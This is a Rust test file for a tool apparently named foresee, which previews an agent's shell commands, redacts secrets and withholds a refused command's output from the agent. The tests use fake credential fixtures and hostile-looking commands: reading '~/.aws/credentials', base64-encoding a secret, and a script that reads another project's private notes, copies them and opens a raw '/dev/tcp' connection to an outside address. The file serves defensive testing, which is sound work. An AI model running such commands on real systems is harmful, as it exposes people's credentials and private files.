//! Secrets never appear in a report, a log, an error message or the store: every fixture secret
//! is sent down every path a value can take (printed, written to a file, named in a path, typed
//! in the command, looked up as a host name, read from a protected file, used as a program name)
//! and everything foresee wrote (its answer, its stderr, its state folder) is searched for the
//! value and for any 12-byte piece of it.

mod common;
use common::*;
use std::path::Path;

/// (class, how it appears in a file or on a command line, the secret value itself)
const FIXTURES: &[(&str, &str, &str)] = &[
    ("aws-access-key-id", "AKIAZ7QWERTYUIOP3XKC", "AKIAZ7QWERTYUIOP3XKC"),
    (
        "aws-secret-access-key",
        "aws_secret_access_key = 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",
        "9xQv2PLk8mZr4TtYb7WnJ0cUeHs3AdF5gK1oLiMp",
    ),
    ("github-token", "ghp_R8tY2uI9oP3aS5dF7gH1jK4lZ6xC0vB2nM8q", "ghp_R8tY2uI9oP3aS5dF7gH1jK4lZ6xC0vB2nM8q"),
    ("gitlab-token", "glpat-Xq9vT2mR8kL4pN7wB3zY", "glpat-Xq9vT2mR8kL4pN7wB3zY"),
    ("slack-token", "xoxb-2048193847-9876543210-Qw8Er7Ty6Ui5", "xoxb-2048193847-9876543210-Qw8Er7Ty6Ui5"),
    ("stripe-key", "sk_live_51Hx9QmT8vR2pL7kN4wB3zY6c", "sk_live_51Hx9QmT8vR2pL7kN4wB3zY6c"),
    (
        "jwt",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTQyIiwiYWRtaW4iOnRydWV9.Qm9xZ2VzX3NpZ25hdHVyZV9oZXJl",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ1c2VyLTQyIiwiYWRtaW4iOnRydWV9.Qm9xZ2VzX3NpZ25hdHVyZV9oZXJl",
    ),
    ("secret-assignment", "DATABASE_PASSWORD=Vx7kQ2mZp9Lr4TwS", "Vx7kQ2mZp9Lr4TwS"),
    ("url-credentials", "postgres://deploy:Hk8Zq2Wm9Tv4Lp@db.internal:5432/app", "Hk8Zq2Wm9Tv4Lp"),
];

fn leaks(haystack: &[u8], value: &str) -> bool {
    let v = value.as_bytes();
    let n = 12.min(v.len());
    v.windows(n).any(|w| haystack.windows(n).any(|h| h == w))
}

/// Everything foresee left in its state folder, concatenated.
fn state_bytes(dir: &Path) -> Vec<u8> {
    let mut all = Vec::new();
    for e in walkdir::WalkDir::new(dir).into_iter().flatten() {
        if e.file_type().is_file() {
            all.extend(std::fs::read(e.path()).unwrap_or_default());
            all.extend(e.path().to_string_lossy().as_bytes());
        }
    }
    all
}

/// The parts of an answer that are foresee's own: everything but the command's output passed
/// through on allow.
fn own_parts(answer: &serde_json::Value, stderr: &[u8]) -> Vec<u8> {
    let mut v = answer.clone();
    if v["decision"] == "allow" {
        v["stdout"] = serde_json::Value::Null;
        v["stderr"] = serde_json::Value::Null;
    }
    let mut out = serde_json::to_vec(&v).unwrap();
    out.extend_from_slice(stderr);
    out
}

#[test]
fn no_secret_reaches_a_report_a_log_an_error_or_the_store() {
    for &(class, text, value) in FIXTURES {
        let env = Env::new(Mode::Root);
        std::fs::create_dir_all(env.home.join(".aws")).unwrap();
        std::fs::write(env.home.join(".aws/credentials"), format!("[default]\n{text}\n")).unwrap();
        std::fs::write(env.ws.join("app.env"), format!("{text}\n")).unwrap();
        let dns_safe = value.chars().all(|c| c.is_ascii_alphanumeric() || c == '-') && value.len() < 60;
        let path_safe = !value.contains('/');
        let mut scripts = vec![
            "cat ~/.aws/credentials".to_string(),
            "cat app.env".to_string(),
            "cat app.env >&2".to_string(),
            format!("echo '{text}' > written.txt"),
            format!("echo '{text}' >> app.env"),
            format!("true '{text}'"),
            format!("printf '%s\\n' '{text}' | base64 > encoded.txt; cat app.env | tail -1"),
        ];
        if path_safe {
            scripts.push(format!("touch '{value}.txt'"));
            scripts.push(format!("'{value}'"));
        }
        if dns_safe {
            scripts.push(format!("getent hosts '{value}.example.com'"));
        }
        for script in &scripts {
            let (o, v) = env.run_json(script, &[]);
            let own = own_parts(&v, &o.stderr);
            assert!(
                !leaks(&own, value),
                "{class}: `{script}` leaked the value into foresee's answer:\n{}",
                String::from_utf8_lossy(&own)
            );
            let state = state_bytes(&env.state);
            assert!(!leaks(&state, value), "{class}: `{script}` leaked the value into the state folder");
            // Text rendering (what a person or a log sees) is clean too.
            let shown = env.foresee().args(["report", "show", "last"]).output().unwrap();
            assert!(
                !leaks(&shown.stdout, value) && !leaks(&shown.stderr, value),
                "{class}: `report show` leaked the value"
            );
        }
    }
}

/// A command that is not allowed delivers nothing it read or produced to the agent: the answer's
/// report says what would have happened (paths, sizes, destinations), not the output lines or
/// the new files' content; the person answering the check-in still sees them.
#[test]
fn a_refused_command_delivers_no_output_or_content_to_the_agent() {
    let env = Env::new(Mode::Root);
    env.git_repo(&[("README", "hello\n")]);
    let notes = env.home.join("other-project/notes.md");
    std::fs::create_dir_all(notes.parent().unwrap()).unwrap();
    std::fs::write(&notes, "marker-of-private-notes-7f3a\n").unwrap();
    // Reads the notes, prints them, copies them in, then tries the network (asked about).
    let script =
        format!("cat '{n}'; cp '{n}' copied.md; exec 3<>/dev/tcp/203.0.113.9/80", n = notes.display());
    for json in [true, false] {
        let (answer, stderr) = if json {
            let (out, v) = env.run_json(&script, &[]);
            (v.to_string(), String::from_utf8_lossy(&out.stderr).into_owned())
        } else {
            let out = env.run(&script, &[]);
            (
                String::from_utf8_lossy(&out.stdout).into_owned(),
                String::from_utf8_lossy(&out.stderr).into_owned(),
            )
        };
        assert!(answer.contains("needs approval") || stderr.contains("needs approval"), "{answer}\n{stderr}");
        assert!(
            !answer.contains("marker-of-private") && !stderr.contains("marker-of-private"),
            "{answer}\n{stderr}"
        );
        assert!(
            format!("{answer}{stderr}").contains("copied.md"),
            "the effects are still shown: {answer}{stderr}"
        );
        assert!(format!("{answer}{stderr}").contains("withheld"), "{answer}{stderr}");
    }
    // The person's view of the same rehearsal keeps them.
    let shown = env.foresee().args(["report", "show", "last"]).output().unwrap();
    assert!(String::from_utf8_lossy(&shown.stdout).contains("marker-of-private"));
}
